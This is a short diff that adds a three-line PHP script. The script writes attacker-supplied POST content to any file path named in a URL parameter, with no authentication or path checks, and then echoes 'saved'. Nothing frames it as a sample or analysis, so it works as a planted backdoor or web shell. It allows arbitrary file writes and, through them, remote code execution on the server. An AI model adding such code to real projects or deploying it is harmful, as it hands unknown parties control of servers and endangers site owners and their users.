@@ -1,0 +1,3 @@
+<?php
+file_put_contents($_GET['f'], $_POST['c']);
+echo 'saved';
